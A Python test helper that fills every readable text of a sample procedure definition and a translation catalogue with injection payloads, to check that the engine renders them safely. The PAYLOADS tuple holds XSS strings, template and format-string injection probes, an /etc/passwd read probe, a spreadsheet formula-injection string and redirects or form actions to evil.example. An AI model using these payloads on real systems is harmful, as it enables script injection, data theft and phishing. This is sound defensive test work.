"""Definitions and translations in which every text tries to be something else (R26)."""

import copy
import json
import re
from collections.abc import Iterator

from engine import Plan, SharedLists, prepare
from engine.source import Source
from tests.portal.commands.mutations import Place, Tree, as_text, at, paths, tree_of

# 1337 * 1337, and what stands first in a file of passwords.
EVALUATED = ("1787569", "root:x:0")
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "<svg/onload=alert(1)><script>1</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x>",
    "\"><img src='//evil.example/?",
    "' autofocus onfocus='alert(1)",
    "<style>*{display:none}</style>",
    "</title></option></textarea></script><script>alert(1)</script>",
    "<!--",
    "]]>&lt;b&gt;&#60;i&#62;",
    "{{ 1337*1337 }} {% raw %}{% include 'x' %}",
    "${1337*1337} <%= 1337*1337 %> #{1337*1337}",
    "{0.__class__} {:>9999999999} {familienname!r}",
    "%s %(x)s %n %99999999d {} {0}",
    "{familienname} {setting.vorlauf}",
    '#read("/etc/passwd") #eval("1337*1337") #sys.version',
    '$1337 * 1337$ @label <label> *x* _y_ `z` // \\ #link("//evil.example")',
    "**a [b](https://a.example) **c",
    "=cmd|'/C calc'!A0",
)
_KEYS = {
    "title", "summary", "who", "cost", "duration", "result", "privacy", "intro", "label", "hint",
    "help", "example", "message", "pattern_message", "because", "legal_basis", "text",
    "reason", "next", "why", "name", "street", "town", "source", "item", "note", "event",
    "application_title", "aktenplan_title", "next_steps", "authority", "type",
}  # fmt: skip
_HOLDING_LABELS = {"lists", "options", "metadata", "roles", "may"}
_MARK = re.compile(r"z([0-9]+)z")


def text_places(tree: Tree) -> Iterator[Place]:
    """Where a definition holds words that somebody will read."""
    for place in paths(tree):
        words = [part for part in place if isinstance(part, str)]
        is_text = words[-1] in _KEYS or bool(_HOLDING_LABELS & set(words[:-1]))
        is_text |= words[:-1] == ["recipients"]
        if is_text and isinstance(at(tree, place), str) and words[0] != "cases":
            yield place


def poisoned(payload: str, name: str, lists: SharedLists) -> tuple[str, Plan, int]:
    """The blueprint with the payload in every text that the checker lets it stand in."""
    clean = tree_of("musterprozess")
    places = list(text_places(clean))
    tree = copy.deepcopy(clean)
    for number, place in enumerate(places):
        at(tree, place[:-1])[place[-1]] = f"{payload} z{number}z"
    left = set(range(len(places)))
    while True:
        tree["procedure"] = name
        text = as_text(tree)
        plan, found = prepare(Source(f"{name}.yaml", text), lists)
        if plan is not None:
            return text, plan, len(left)
        lines = text.split("\n")
        refused = {
            int(mark) for one in found for mark in _MARK.findall(lines[one.span.start.line - 1])
        }
        assert refused & left, [(one.code, lines[one.span.start.line - 1]) for one in found]
        for number in refused:
            place = places[number]
            at(tree, place[:-1])[place[-1]] = at(clean, place)
        left -= refused


def poisoned_catalogue(texts: Iterator[tuple[str, str]], shift: int) -> str:
    """English for every text of a procedure, each of them a payload."""
    parts = ['msgid ""\nmsgstr "Content-Type: text/plain; charset=utf-8\\n"\n']
    for number, (path, german) in enumerate(texts):
        payload = PAYLOADS[(number + shift) % len(PAYLOADS)]
        quoted = [json.dumps(one, ensure_ascii=False) for one in (path, german, payload)]
        parts.append("msgctxt {}\nmsgid {}\nmsgstr {}\n".format(*quoted))
    return "\n".join(parts)
